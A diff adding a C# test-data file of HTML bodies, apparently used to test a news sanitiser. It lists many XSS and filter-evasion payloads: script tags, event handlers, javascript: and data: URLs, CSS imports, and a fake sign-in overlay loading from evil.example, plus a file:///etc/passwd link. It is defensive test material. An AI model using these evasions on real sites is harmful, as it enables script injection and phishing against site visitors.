@@ -1,0 +1,138 @@
+namespace NewsContent.Generators.Tests.Bodies;
+
+/// <summary>
+/// Bodies that try to run a script, load a foreign page or overlay the site's own. After the ideas of public collections of filter evasions;
+/// a script says <c>hit()</c>, and what must not be loaded is below <c>/active/</c>.
+/// </summary>
+internal static partial class ActiveMarkup
+{
+    public static IReadOnlyList<string> All => [.. Scripts, .. Handlers, .. Urls, .. Styles, .. Frames, .. Confusions, .. InMarkdown];
+
+    private static readonly string[] Scripts =
+    [
+        "<script>hit()</script>",
+        "<ScRiPt>hit()</sCrIpT>",
+        "<script src=//evil.example/active/a.js></script>",
+        "<script/src='//evil.example/active/b.js'></script>",
+        "<script\n>hit()</script\n>",
+        "<script>hit()",
+        "<<script>hit();//<</script>",
+        "<scr<script>ipt>hit()</scr</script>ipt>",
+        "<script type=module>hit()</script>",
+        "<script a=\">\" src=//evil.example/active/c.js></script>",
+        "<p>Text</p>\n<div><p><b><script>hit()</script></b></p></div>",
+        "<svg><script>hit()</script></svg>",
+        "<svg><script href=\"//evil.example/active/d.js\" /></svg>",
+        "<svg><script>hit&#40;&#41;</script></svg>",
+        "<math><script>hit()</script></math>",
+        "<table><script>hit()</script></table>",
+        "<select><script>hit()</script></select>",
+        "<script language=vbs>hit</script>",
+        "</script><script>hit()</script>",
+        "\"><script>hit()</script>",
+        "<IMG \"\"\"><SCRIPT>hit()</SCRIPT>\"\\>",
+        "<object><param name=a value=b><script>hit()</script></object>",
+    ];
+
+    private static readonly string[] Handlers =
+    [
+        "<img src=x onerror=hit()>",
+        "<img src=x onerror='hit()'>",
+        "<img src=x onerror=\"hit&lpar;&rpar;\">",
+        "<img/src=x/onerror=hit()>",
+        "<img\nsrc=x\nonerror=hit()\n>",
+        "<img src=x ONERROR=hit()>",
+        "<img src=x onerror\n=\nhit()>",
+        "<img src=x onerror=`hit()`>",
+        "<img src=x:hit() onerror=eval(src.slice(2))>",
+        "<img src='x' alt='`' onerror=hit()>",
+        "<img src=\"x\"onerror=hit()>",
+        "<img src= onerror=hit()>",
+        "<img src=x \0onerror=hit()>",
+        "<img srcset=x onerror=hit()>",
+        "<body onload=hit()>",
+        "<svg onload=hit()>",
+        "<svg/onload=hit()>",
+        "<svg><animate onbegin=hit() attributeName=x dur=1s>",
+        "<svg><set onbegin=hit() attributeName=x to=1>",
+        "<details open ontoggle=hit()><summary>More</summary></details>",
+        "<video src=x onerror=hit()></video>",
+        "<video><source onerror=hit()></video>",
+        "<audio src=x onerror=hit()></audio>",
+        "<picture><source onerror=hit()><img src=x onerror=hit()></picture>",
+        "<input autofocus onfocus=hit()>",
+        "<input type=checkbox disabled onclick=hit()>",
+        "<select autofocus onfocus=hit()></select>",
+        "<textarea autofocus onfocus=hit()></textarea>",
+        "<marquee onstart=hit()>x</marquee>",
+        "<p onmouseover=hit()>Text</p>",
+        "<a onclick=hit() href=#>Text</a>",
+        "<a href=\"#\" title='\"onclick=hit() x=\"'>Text</a>",
+        "<div style=\"animation:x\" onanimationstart=hit()>Text</div>",
+        "<figure tabindex=1 onfocus=hit() autofocus>Text</figure>",
+        "<table onclick=hit()><tr onclick=hit()><td onclick=hit()>Text</table>",
+        "<o:p onclick=hit()>Text</o:p>",
+        "<x onclick=hit() id=x tabindex=1 onfocus=hit() autofocus>Text</x>",
+        "<time onmouseover=hit() datetime=2026>Text</time>",
+        "Text <em onmouseover=\"hit()\">text</em> text",
+    ];
+
+    private static readonly string[] Urls =
+    [
+        "<a href=javascript:hit()>Text</a>",
+        "<a href=\"JaVaScRiPt:hit()\">Text</a>",
+        "<a href=\"java\tscript:hit()\">Text</a>",
+        "<a href=\"java&Tab;script&colon;hit()\">Text</a>",
+        "<a href=\"java&NewLine;script:hit()\">Text</a>",
+        "<a href=\"jav&#x09;ascript:hit()\">Text</a>",
+        "<a href=\"jav&#x0A;ascript:hit()\">Text</a>",
+        "<a href=\" &#14;  javascript:hit()\">Text</a>",
+        "<a href=\"\u0001javascript:hit()\">Text</a>",
+        "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hit()>Text</a>",
+        "<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058hit()>Text</a>",
+        "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;hit()>Text</a>",
+        "<a href='javascript:\"/*\\\"/*`/*&apos;/**/hit()//'>Text</a>",
+        "<a href=\"vbscript:hit\">Text</a>",
+        "<a href=\"data:text/html,<script>hit()</script>\">Text</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==\">Text</a>",
+        "<a href=\"feed:javascript:hit()\">Text</a>",
+        "<a href=\"view-source:javascript:hit()\">Text</a>",
+        "<a href=\"blob:https://evil.example/1\">Text</a>",
+        "<a href=\"file:///etc/passwd\">Text</a>",
+        "<a href='javascript:hit()' href='https://example.com/'>Text</a>",
+        "<svg><a xlink:href=\"javascript:hit()\"><text y=20>Text</text></a></svg>",
+        "<svg><a><animate attributeName=href values=javascript:hit() /><text y=20>Text</text></a></svg>",
+        "<math href=\"javascript:hit()\">Text</math>",
+        "<img src=\"javascript:hit()\">",
+        "<img dynsrc=\"javascript:hit()\" lowsrc=\"javascript:hit()\">",
+        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>\">",
+        "<img src=\"data:image/png,<svg onload=hit()>\">",
+        "<video poster=\"javascript:hit()\" src=\"javascript:hit()\"></video>",
+        "<img srcset=\"https://example.com/a.jpg 1x,javascript:hit() 2x\">",
+        "<blockquote cite=\"javascript:hit()\">Text</blockquote>",
+        "<form action=\"javascript:hit()\"><button>Text</button></form>",
+        "<form id=f></form><button form=f formaction=\"javascript:hit()\">Text</button>",
+        "<input type=image src=x formaction=javascript:hit()>",
+        "<map name=m><area href=\"javascript:hit()\" shape=default></map><img usemap=#m src=x>",
+        "<base href=\"//evil.example/active/\"><a href=a>Text</a>",
+        "<a ping=\"//evil.example/active/ping\" href=\"#\">Text</a>",
+        "<table background=\"//evil.example/active/1\"><td background=\"javascript:hit()\">Text</table>",
+        "<img data-src=\"javascript:hit()\">",
+        "<a href=\"javascript&#58hit()\">Text</a>",
+    ];
+
+    private static readonly string[] Styles =
+    [
+        "<style>@import '//evil.example/active/a.css';</style>",
+        "<style>p{background:url(//evil.example/active/b)}</style><p>Text</p>",
+        "<link rel=stylesheet href=//evil.example/active/c.css>",
+        "<link rel=preload as=script href=//evil.example/active/e.js>",
+        "<div style=\"background:url(//evil.example/active/d)\">Text</div>",
+        "<div style=\"width:expression(hit())\">Text</div>",
+        "<div style=\"-moz-binding:url(//evil.example/active/x.xml#a)\">Text</div>",
+        "<div style=\"position:fixed;inset:0;z-index:9999\"><a href=https://evil.example/>Sign in</a></div>",
+        "<td style=\"text-align: center;background:url(//evil.example/active/f)\">Text</td>",
+        "<table><tr><th style=\"text-align: center;background:url(//evil.example/active/g)\">Text</table>",
+        "<p style='background:\\75rl(\"//evil.example/active/h\")'>Text</p>",
+    ];
+}
